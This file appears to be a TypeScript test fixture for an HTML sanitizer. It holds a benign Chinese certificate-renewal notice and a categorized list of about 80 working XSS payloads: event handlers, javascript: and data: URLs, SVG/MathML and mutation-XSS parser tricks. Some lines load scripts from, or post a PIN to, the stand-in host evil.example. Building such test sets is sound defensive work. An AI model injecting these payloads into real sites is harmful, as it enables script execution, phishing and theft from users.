/** A notice as an editor writes it. */
export const notice = `
<h2>关于延期办理的通知</h2>
<p>为方便企业办理，<strong>即将到期</strong>的证书可在到期前 80 天内申请延期。详见<a href="https://ca.example.cn/help/renew">延期指南</a>。</p>
<ol><li>登录并选择身份</li><li>勾选需要延期的证书</li><li>支付后使用 <code>CA 锁</code> 写入</li></ol>
<blockquote>如已过期，请改为办理新证书。</blockquote>
<table><thead><tr><th scope="col">业务</th><th scope="col">费用（元）</th></tr></thead>
<tbody><tr><td>延期一年</td><td>200.00</td></tr><tr><td>补办</td><td>280.00</td></tr></tbody></table>
<p>咨询电话：<a href="tel:02400000000">024-0000-0000</a></p>`;

/**
 * One attack per line, by class. Each contains markup that is forbidden, but would work in a document without
 * sanitizing.
 */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>window.xss=1</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>window.xss=1</scr</script>ipt><script>window.xss=1</script>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<p>文字<script/x>window.xss=1</script>',
    '<noscript><p title="</noscript><img src=x onerror=window.xss=1>">',
    '<template><script>window.xss=1</script></template>',
    '<xmp><p title="</xmp><img src=x onerror=window.xss=1>">',
  ],
  'event handler': [
    '<img src=x onerror=window.xss=1>',
    '<img src=x OnErRoR="window.xss=1">',
    '<img/src="x"/onerror=window.xss=1>',
    '<img src="x"onerror="window.xss=1">',
    '<img src=x onerror\n=\nwindow.xss=1>',
    '<body onload=window.xss=1>x</body><b onmouseover=window.xss=1>b</b>',
    '<a href="#" onclick="window.xss=1">点这里</a>',
    '<p onpointerenter=window.xss=1>x</p>',
    '<details open ontoggle=window.xss=1><summary>x</summary></details>',
    '<video autoplay onplay=window.xss=1><source src=x onerror=window.xss=1></video>',
    '<audio src=x onerror=window.xss=1></audio>',
    '<input autofocus onfocus=window.xss=1>',
    '<marquee onstart=window.xss=1>x</marquee>',
    '<div tabindex=0 onfocus=window.xss=1 autofocus>x</div>',
    '<span style="animation:x 1s" onanimationstart=window.xss=1>x</span>',
  ],
  'script address': [
    '<a href="javascript:window.xss=1">x</a>',
    '<a href="JaVaScRiPt:window.xss=1">x</a>',
    '<a href=" javascript:window.xss=1">x</a>',
    '<a href="java\tscript:window.xss=1">x</a>',
    '<a href="java&#10;script:window.xss=1">x</a>',
    '<a href="&#106;avascript:window.xss=1">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:window.xss=1">x</a>',
    '<a href="javascript&colon;window.xss=1">x</a>',
    '<a href="&#1;javascript:window.xss=1">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="intent://scan/#Intent;scheme=evil;end">x</a>',
    '<img src="javascript:window.xss=1">',
  ],
  'data address': [
    '<a href="data:text/html,<script>window.xss=1</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">x</a>',
    '<img src="data:image/svg+xml,<svg onload=window.xss=1>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<object data="data:text/html,<script>window.xss=1</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=window.xss=1>">',
  ],
  svg: [
    '<svg onload=window.xss=1>',
    '<svg><script>window.xss=1</script></svg>',
    '<svg><a xlink:href="javascript:window.xss=1"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:window.xss=1 /></svg>',
    '<svg><set attributeName=onmouseover to=window.xss=1 /></svg>',
    '<svg><foreignObject><img src=x onerror=window.xss=1></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.xss=1>#x"/></svg>',
    '<svg><style><img src=x onerror=window.xss=1></style></svg>',
  ],
  mathml: [
    '<math><mtext><img src=x onerror=window.xss=1></mtext></math>',
    '<math href="javascript:window.xss=1">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:window.xss=1">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.xss=1></annotation-xml></math>',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.xss=1&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.xss=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.xss=1>',
    '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=window.xss=1 src>">',
    '<listing>&lt;img src=x onerror=window.xss=1&gt;</listing>',
    '<svg><title><style><img src=x onerror=window.xss=1></style></title></svg>',
    '<table><td><svg><desc><b><img src=x onerror=window.xss=1>',
    '<p><!--[if gte IE 4]><script>window.xss=1</script><![endif]--><b onclick=window.xss=1>x</b>',
  ],
  'style and resources': [
    '<p style="background:url(javascript:window.xss=1)">x</p>',
    '<div style="position:fixed;inset:0;z-index:99999">盖住页面</div>',
    '<style>body{display:none}</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<img srcset="https://evil.example/x 1x, javascript:window.xss=1 2x">',
    '<picture><source srcset="https://evil.example/t"><img src=a.png></picture>',
    '<table background="https://evil.example/t"><tr><td>x</td></tr></table>',
    '<video poster="https://evil.example/t"></video>',
  ],
  'frames, forms and page': [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example"><input name=pin><button>提交</button></form>',
    '<button formaction="javascript:window.xss=1">x</button>',
    '<textarea autofocus>x</textarea>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<a id="getElementById" name="cookie" href="#">x</a>',
    '<img name="body" src="a.png">',
    '<dialog open>您的锁已失效</dialog>',
    '<p class="ovl" data-component="Alert" contenteditable>x</p>',
    '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
  ],
};
